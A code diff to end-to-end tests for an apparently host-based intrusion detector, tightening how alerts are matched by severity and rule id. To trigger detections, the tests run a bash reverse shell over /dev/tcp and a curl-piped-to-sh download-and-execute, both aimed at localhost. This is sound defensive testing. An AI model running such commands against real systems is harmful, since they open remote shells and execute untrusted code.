@@ -131,8 +131,9 @@ describe('detection end to end (root, real driver, default rule pack)', { skip: 
     const port = (listener.address() as AddressInfo).port;
     try {
       await run('/bin/bash', ['-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`], { timeout: 10_000 }).catch(() => undefined);
-      const alert = await waitForAlert('a reverse shell alert', since, (a) => mentions(a, `/dev/tcp/127.0.0.1/${port}`));
-      assert.ok(['high', 'critical'].includes(alert.rule.severity), `${alert.rule.id} is ${alert.rule.severity}`);
+      // The shell itself raises a high or critical alert (what runs under it may add low ones).
+      const alert = await waitForAlert('a high or critical reverse shell alert', since, (a) => mentions(a, `/dev/tcp/127.0.0.1/${port}`) && ['high', 'critical'].includes(a.rule.severity));
+      assert.match(alert.rule.id, /reverse_shell/);
     } finally {
       for (const socket of sockets) socket.destroy();
       await new Promise((resolve) => listener.close(resolve));
@@ -148,8 +149,7 @@ describe('detection end to end (root, real driver, default rule pack)', { skip: 
     try {
       const result = await run('/bin/sh', ['-c', `curl -fsS http://127.0.0.1:${port}/install.sh | sh`], { encoding: 'utf8', timeout: 10_000 });
       assert.match(result.stdout, new RegExp(marker));
-      const alert = await waitForAlert('a download-and-execute alert', since, (a) => mentions(a, `127.0.0.1:${port}/install.sh`));
-      assert.ok(['medium', 'high', 'critical'].includes(alert.rule.severity), `${alert.rule.id} is ${alert.rule.severity}`);
+      await waitForAlert('a download-and-execute alert of medium severity or more', since, (a) => mentions(a, `127.0.0.1:${port}/install.sh`) && ['medium', 'high', 'critical'].includes(a.rule.severity));
     } finally {
       http.closeAllConnections();
       await new Promise((resolve) => http.close(resolve));
